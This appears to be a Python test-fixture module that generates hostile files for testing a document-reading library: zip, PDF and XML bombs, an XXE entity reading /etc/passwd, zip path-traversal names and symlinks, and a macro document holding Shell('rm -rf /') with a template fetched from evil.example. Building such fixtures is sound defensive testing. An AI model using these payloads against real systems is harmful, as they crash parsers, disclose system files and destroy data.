"""Files made to trouble whoever reads them, each small enough to make in a moment."""

import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from inference.reading.kinds import OLE
from tests.inference.reading import made
from tests.inference.reading.made import packed

LAUGHS = zip("abcdefgh", "bcdefghi", strict=True)
BILLION = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "laugh">'
    + "".join(f'<!ENTITY {more} "{f"&{one};" * 10}">' for one, more in LAUGHS)
    + "]>"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
BODY = "<w:document xmlns:w='w'><w:body><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:body></w:document>"
BOX = b"0 0 600 800"
TYPES = "<Types xmlns='t'/>"


def with_xml(xml: str | bytes) -> bytes:
    """A Word file with this as its text."""
    return packed({"[Content_Types].xml": TYPES, "word/document.xml": xml})


def raw_pdf(*objects: bytes, head: bytes = b"%PDF-1.7\n") -> bytes:
    """A PDF of these objects, the first one its root."""
    out, places = bytearray(head), []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start)
    return bytes(out)


def stream(data: bytes, filters: bytes = b"") -> bytes:
    return b"<</Length %d%b>>\nstream\n%b\nendstream" % (len(data), filters, data)


def one_page(
    contents: bytes, *more: bytes, box: bytes = b"0 0 600 800", font: bytes = b""
) -> bytes:
    font = font or b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[%b]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>"
        % box,
        contents,
        font,
        *more,
    )


def zip_bomb() -> bytes:
    return packed({"big.txt": bytes(100 << 20), "small.txt": "still here"})


def word_bomb() -> bytes:
    return with_xml(BODY.format("x" * (60 << 20)).encode())


def sheet_bomb() -> bytes:
    row = "<row>" + "<c t='inlineStr'><is><t>x</t></is></c>" * 100 + "</row>"
    xml = f"<worksheet><sheetData>{row * 20_000}</sheetData></worksheet>"
    return packed({
        "[Content_Types].xml": TYPES,
        "xl/workbook.xml": "<workbook xmlns:r='http://schemas.openxmlformats.org/officeDocument/"
        "2006/relationships'><sheets><sheet name='S' r:id='a'/></sheets></workbook>",
        "xl/_rels/workbook.xml.rels": "<R><Relationship Id='a' Type='x/worksheet' "
        "Target='sheet.xml'/></R>",
        "xl/sheet.xml": xml,
    })  # fmt: skip


def xxe() -> bytes:
    return with_xml(OUTSIDE + BODY.format("&x;"))


def billion_laughs() -> bytes:
    return with_xml(BILLION + BODY.format("&i;"))


def quadratic() -> bytes:
    entity = f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "{"a" * 100_000}">]>'
    return with_xml(entity + BODY.format("&a;" * 10_000))


def deep_xml() -> bytes:
    return with_xml("<a>" * 200_000)


def endless_zips() -> bytes:
    data = b"the bottom"
    for _ in range(20):
        data = packed({"next.zip": data, "text.txt": "a level"})
    return data


def many_members() -> bytes:
    return packed({f"{at}.txt": "x" for at in range(20_000)})


def path_tricks() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        for name in ("../../../../tmp/tacit-was-here.txt", "/etc/tacit.txt", "C:\\evil.txt",
                     "a\u202etxt.exe", "x" * 5_000 + ".txt"):  # fmt: skip
            file.writestr(name, "words")
        link = zipfile.ZipInfo("link.txt")
        link.external_attr = 0o120777 << 16
        file.writestr(link, "/etc/passwd")
    return out.getvalue()


def overlapping() -> bytes:
    """Every entry of the plan points at the same packed bytes."""
    data = packed({"a.txt": bytes(10 << 20)})
    end = data.rindex(b"PK\x05\x06")
    start = data.index(b"PK\x01\x02")
    entry = data[start:end]
    plan = b"".join(entry.replace(b"a.txt", b"%05d" % at) for at in range(500))
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 500, 500, len(plan), start, 0)
    return data[:start] + plan + tail


def lying_sizes() -> bytes:
    data = bytearray(packed({"a.txt": b"words " * 1000}))
    at = data.index(b"PK\x01\x02")
    struct.pack_into("<I", data, at + 24, 0xFFFFFFF0)
    return bytes(data)


def macros() -> bytes:
    return packed({
        "[Content_Types].xml": TYPES, "word/document.xml": BODY.format("Plain words."),
        "word/vbaProject.bin": b'Shell("rm -rf /")', "word/_rels/document.xml.rels":
        "<R><Relationship Id='a' Type='x/attachedTemplate' TargetMode='External' "
        "Target='http://evil.example/t.dotm'/></R>",
    })  # fmt: skip


def vast_sheet() -> bytes:
    content = (
        "<d><body><spreadsheet><table name='S'><table-row><table-cell number-columns-repeated="
        "'999999999'><p>x</p></table-cell></table-row></table></spreadsheet></body></d>"
    )
    return packed({
        "mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": content,
    }, first="mimetype")  # fmt: skip


def diagonal_sheet() -> bytes:
    """A filled cell in each column of each row: a table as wide as it is long."""

    def column(at: int) -> str:
        name = ""
        while at:
            at, rest = divmod(at - 1, 26)
            name = chr(65 + rest) + name
        return name

    cells = "".join(
        f"<row><c r='{column(at)}{at}' t='inlineStr'><is><t>x</t></is></c></row>"
        for at in range(1, 16_000)
    )
    return sheet_bomb_with(f"<worksheet><sheetData>{cells}</sheetData></worksheet>")


def sheet_bomb_with(xml: str) -> bytes:
    return packed({
        "[Content_Types].xml": TYPES,
        "xl/workbook.xml": "<workbook xmlns:r='http://schemas.openxmlformats.org/officeDocument/"
        "2006/relationships'><sheets><sheet name='S' r:id='a'/></sheets></workbook>",
        "xl/_rels/workbook.xml.rels": "<R><Relationship Id='a' Type='x/worksheet' "
        "Target='sheet.xml'/></R>",
        "xl/sheet.xml": xml,
    })  # fmt: skip


def pdf_bomb() -> bytes:
    data = b" " * (32 << 20)
    for _ in range(3):
        data = zlib.compress(data, 9)
    return one_page(stream(data, b"/Filter[/FlateDecode/FlateDecode/FlateDecode]"))


def wide_pdf_bomb() -> bytes:
    return one_page(_much_of_nothing())


@functools.cache
def _much_of_nothing() -> bytes:
    return stream(zlib.compress(b" " * (600 << 20), 1), b"/Filter/FlateDecode")


def bomb_after(count: int) -> bytes:
    """A page that cannot be read behind so many that can."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents %d 0 R"
    page += b"/Resources<</Font<</F 5 0 R>>>>>>"
    kids = b" ".join(b"%d 0 R" % (6 + at) for at in range(count + 1))
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, count + 1),
        stream(b"BT /F 12 Tf 72 700 Td (Words) Tj ET"),
        _much_of_nothing(),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        *[page % 3] * count,
        page % 4,
    )


def ten_thousand_pages() -> bytes:
    count = 10_000
    kids = b" ".join(b"%d 0 R" % (5 + at) for at in range(count))
    contents = stream(b"BT /F 12 Tf 72 700 Td (One page of many) Tj ET")
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 3 0 R/Resources<</Font<</F 4 0 R>>>>>>"  # noqa: E501
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, count),
        contents,
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        *[page] * count,
    )


def circular_pages() -> bytes:
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1000000>>",
    )


def vast_page() -> bytes:
    text = stream(b"BT /F 12 Tf 1e30 -1e30 Td (Far away) Tj 1 0 0 1 72 700 Tm (Near) Tj ET")
    return one_page(text, box=b"-1e30 -1e30 1e30 1e30")


def many_letters() -> bytes:
    line = b"(" + b"all work and no play " * 500 + b") Tj 0 -1 Td "
    return one_page(stream(b"BT /F 1 Tf 0 790 Td " + line * 400 + b"ET"))


def many_strokes() -> bytes:
    lines = b"".join(b"%d 0 m %d 800 l S 0 %d m 600 %d l S\n" % (x, x, x, x) for x in range(20_000))
    return one_page(stream(lines + b"BT /F 12 Tf 72 700 Td (Words) Tj ET"))


def lying_font() -> bytes:
    cmap = stream(b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap 1 "
                  b"begincodespacerange <00> <FF> endcodespacerange 1 beginbfrange "
                  b"<00> <FF> <E000> endbfrange endcmap end end")  # fmt: skip
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>"
    return one_page(
        stream(b"BT /F 12 Tf 72 700 Td (What this says is something else entirely) Tj ET"), cmap,
        font=font,
    )  # fmt: skip


def truncated(make: Callable[[], made.Made]) -> bytes:
    data = make().data
    return data[: len(data) * 2 // 3]


def nested_letter() -> bytes:
    head = b"From: a@b.c\nTo: d@e.f\nSubject: Deep\nMIME-Version: 1.0\n"
    text = b"the bottom"
    parts = b"".join(
        b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (at, at) for at in range(3_000)
    )
    return head + parts + b"Content-Type: text/plain\n\n" + text


def letter_with_bomb() -> bytes:
    import base64

    bomb = base64.encodebytes(packed({"big.txt": bytes(100 << 20)}))
    return (
        b"From: a@b.c\nTo: d@e.f\nSubject: Bomb\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
        b"boundary=x\n\n--x\nContent-Type: text/plain\n\nThe body.\n--x\nContent-Type: application/"
        b"zip\nContent-Disposition: attachment; filename=b.zip\nContent-Transfer-Encoding: base64\n"
         b"\n" + bomb + b"\n--x--\n"
    )  # fmt: skip


def odd_headers() -> bytes:
    return (
        b"From: =?no-such-code?b?////?= <a@b.c>\nTo: =?utf-8?q?=ZZ?=\nSubject: =?utf-8?b?a?=\n"
        b'Date: 99 Foo 99999 99:99\nContent-Type: text/plain; charset="no such"\n'
        b"Content-Transfer-Encoding: base64\n\nnot base64 at all \xff\xfe\n"
    )


def deep_page() -> bytes:
    return b"<html><body>" + b"<div>" * 100_000 + b"words" + b"</div>" * 100_000


def open_comments() -> bytes:
    return b"<html><body>words" + b"<!--" * 200_000


def many_attributes() -> bytes:
    return b"<html><body><p " + b"a=b " * 300_000 + b">words</p>"


def odd_markdown() -> bytes:
    return b"# T\n\n" + b"*_" * 50_000 + b"[" * 50_000 + b"](" * 20_000 + b"\n" + b"> " * 50_000


def one_long_line() -> bytes:
    return b"a" * (20 << 20)


def deep_json() -> bytes:
    return b"[" * 200_000


def odd_table() -> bytes:
    return b'"' + b"a,b\n" * 500_000


def long_fold() -> bytes:
    return b"BEGIN:VCALENDAR\nBEGIN:VEVENT\nSUMMARY:x" + b"\n x" * 500_000


def quoted_parameters() -> bytes:
    return b"BEGIN:VCARD\nFN:x\nTEL;" + b'"a"' * 50_000 + b"\nEND:VCARD"


def circular_letter() -> bytes:
    """A compound file whose chains go round in circles."""
    header = bytearray(512)
    header[:8] = OLE
    struct.pack_into("<HHH", header, 26, 3, 0xFFFE, 9)
    struct.pack_into("<8I", header, 44, 1, 1, 0, 4096, 0, 1, 0, 1)
    struct.pack_into("<109I", header, 76, 0, *[0xFFFFFFFF] * 108)
    table = struct.pack("<128I", *[1] * 128)
    name = "__properties_version1.0".encode("utf-16-le")
    entry = bytearray(128)
    entry[: len(name)] = name
    struct.pack_into("<HBB3I", entry, 64, len(name) + 2, 2, 0, 0, 0, 0)
    return bytes(header) + table + bytes(entry) * 4


def fake_picture() -> bytes:
    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 6, 0, 0, 0)
    body = _chunk(b"IHDR", header) + _chunk(b"IDAT", zlib.compress(bytes(1000)))
    return b"\x89PNG\r\n\x1a\n" + body


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


FILES: dict[str, Callable[[], bytes]] = {
    "bomb.zip": zip_bomb,
    "bomb.docx": word_bomb,
    "bomb.xlsx": sheet_bomb,
    "xxe.docx": xxe,
    "laughs.docx": billion_laughs,
    "quadratic.docx": quadratic,
    "deep.docx": deep_xml,
    "endless.zip": endless_zips,
    "many.zip": many_members,
    "paths.zip": path_tricks,
    "overlapping.zip": overlapping,
    "sizes.zip": lying_sizes,
    "macros.docm": macros,
    "vast.ods": vast_sheet,
    "diagonal.xlsx": diagonal_sheet,
    "bomb.pdf": pdf_bomb,
    "wide bomb.pdf": wide_pdf_bomb,
    "pages.pdf": ten_thousand_pages,
    "circle.pdf": circular_pages,
    "vast.pdf": vast_page,
    "letters.pdf": many_letters,
    "strokes.pdf": many_strokes,
    "font.pdf": lying_font,
    "nested.eml": nested_letter,
    "bomb.eml": letter_with_bomb,
    "odd.eml": odd_headers,
    "deep.html": deep_page,
    "comments.html": open_comments,
    "attributes.html": many_attributes,
    "odd.md": odd_markdown,
    "line.txt": one_long_line,
    "deep.json": deep_json,
    "odd.csv": odd_table,
    "fold.ics": long_fold,
    "quoted.vcf": quoted_parameters,
    "circle.msg": circular_letter,
    "fake.png": fake_picture,
    **{f"cut {make.__name__}": functools.partial(truncated, make) for make in made.ALL},
}
